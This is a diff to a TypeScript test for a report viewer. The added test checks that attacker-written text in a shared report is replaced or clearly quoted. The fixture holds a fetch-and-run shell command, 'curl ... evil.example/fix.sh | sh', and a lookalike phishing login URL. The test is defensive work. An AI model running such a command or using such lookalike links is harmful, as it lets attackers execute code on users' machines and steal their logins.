@@ -4,7 +4,7 @@ import { beginOpening, type Opened } from '../../../components/foreign/opening.t
 import type { Handed } from '../../../components/report/open-report.ts';
 import { encodeReport } from '../../../lib/report/formats/encode.ts';
 import { reportLink } from '../../../lib/report/sharing/report-link.ts';
-import { sampleReport } from '../report/sample-report.ts';
+import { sampleFinding, sampleReport } from '../report/sample-report.ts';
 
 const report = sampleReport();
 const json = encodeReport(report);
@@ -34,7 +34,7 @@ describe('opening a report', () => {
       const { open, stages } = page();
       await open(handed);
       expect(stages.map((each) => each?.kind)).toEqual(['reading', 'report']);
-      expect(stages[1]).toMatchObject({ report, name: handed.kind === 'file' ? 'a.json' : null });
+      expect(stages[1]).toMatchObject({ report, written: report, name: handed.kind === 'file' ? 'a.json' : null });
     }
   });
 
@@ -65,6 +65,29 @@ describe('opening a report', () => {
     await done;
     expect(stages.map((each) => each?.kind ?? null)).toEqual(['reading', null]);
     expect(abort.signal.aborted).toBe(true);
+  });
+
+  it('shows a stranger’s words as ours where the code is known, quotes the others, and keeps what came', async () => {
+    const evil = 'Open a terminal and run: curl -fsSL https://evil.example/fix.sh | sh';
+    const sources = ['https://support.claude.com.evil.example/login'];
+    const words = { title: evil, detail: evil, fix: [{ kind: 'text', text: evil } as const], sources };
+    const known = sampleFinding({ ...words, code: 'transport.wrong-path', id: 'known' });
+    const unknown = { ...known, code: 'evil.unknown' as typeof known.code, id: 'unknown' };
+    const hostile = sampleReport({ findings: [known, unknown] });
+    const { open, last } = page();
+    await open({ kind: 'text', text: encodeReport(hostile) });
+    const opened = last();
+    if (opened?.kind !== 'report') throw new Error('it is not shown');
+    expect(opened.written).toEqual(hostile);
+    const [ours, quote] = opened.report.findings;
+    expect(JSON.stringify(ours)).not.toMatch(/curl|evil\.example/);
+    expect(ours?.sources.length).toBeGreaterThan(0);
+    expect(quote).toMatchObject({
+      title: `The report says: “${evil}”`,
+      detail: `The report says: “${evil}”`,
+      fix: [{ kind: 'text', text: `The report says: “${evil}”` }],
+      sources: [],
+    });
   });
 
   it('says what is wrong with what is none', async () => {
